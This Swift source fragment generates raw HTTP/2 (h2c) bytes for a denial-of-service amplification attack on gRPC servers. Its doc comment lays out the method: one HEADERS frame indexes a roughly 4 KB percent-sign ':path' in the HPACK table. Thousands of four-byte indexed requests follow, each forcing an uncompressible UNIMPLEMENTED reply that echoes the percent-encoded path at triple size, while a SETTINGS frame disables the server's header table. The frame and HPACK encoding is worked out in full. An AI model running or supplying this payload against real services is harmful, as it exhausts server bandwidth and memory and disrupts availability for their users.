/// An h2c client's bytes that cost it 13 bytes a request: the preface and SETTINGS, then
/// HEADERS with END_STREAM on streams 1, 3, 5, …. The first adds to the HPACK table a `:path` of
/// about 4 KB, naming an unknown service spelt in `%` (which percent-encoding triples), and
/// `content-type: application/grpc`; every later block is four index bytes. A gRPC server
/// answers each request UNIMPLEMENTED, quoting the service in `grpc-message`, and cannot index
/// that answer: the SETTINGS give it a header table of 0 bytes.
public func indexedPathFlood(streams: Int) -> [UInt8] {
    let headerTableSizeZero: [UInt8] = [0, 1, 0, 0, 0, 0]
    var wire = Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8) + h2Frame(type: 4, flags: 0, stream: 0, headerTableSizeZero)
    let path = Array(("/" + String(repeating: "%", count: 3_988) + "/M").utf8)
    let contentType = Array("application/grpc".utf8)
    // :method POST and :scheme http (static 3 and 6), then both literals indexed (RFC 7541 §6.2.1):
    // 4 028 + 60 bytes of the 4 096-byte table, content-type at index 62 and :path at 63.
    let first = [0x83, 0x86, 0x44] + hpackLength(path.count) + path + [0x5f] + hpackLength(contentType.count) + contentType
    wire += h2Frame(type: 1, flags: 5, stream: 1, first)
    for i in 1 ..< streams {
        wire += h2Frame(type: 1, flags: 5, stream: UInt32(2 * i + 1), [0x83, 0x86, 0xbf, 0xbe])
    }
    return wire
}

/// RFC 9113 §4.1: length, type, flags, stream id.
private func h2Frame(type: UInt8, flags: UInt8, stream: UInt32, _ payload: [UInt8]) -> [UInt8] {
    let n = payload.count
    return [UInt8(n >> 16 & 0xff), UInt8(n >> 8 & 0xff), UInt8(n & 0xff), type, flags,
            UInt8(stream >> 24), UInt8(stream >> 16 & 0xff), UInt8(stream >> 8 & 0xff), UInt8(stream & 0xff)] + payload
}

/// RFC 7541 §5.1–§5.2: a raw (not Huffman) string's length, 7-bit prefix.
private func hpackLength(_ n: Int) -> [UInt8] {
    guard n >= 127 else { return [UInt8(n)] }
    var bytes: [UInt8] = [127]
    var rest = n - 127
    while rest >= 128 {
        bytes.append(UInt8(rest & 0x7f) | 0x80)
        rest >>= 7
    }
    return bytes + [UInt8(rest)]
}
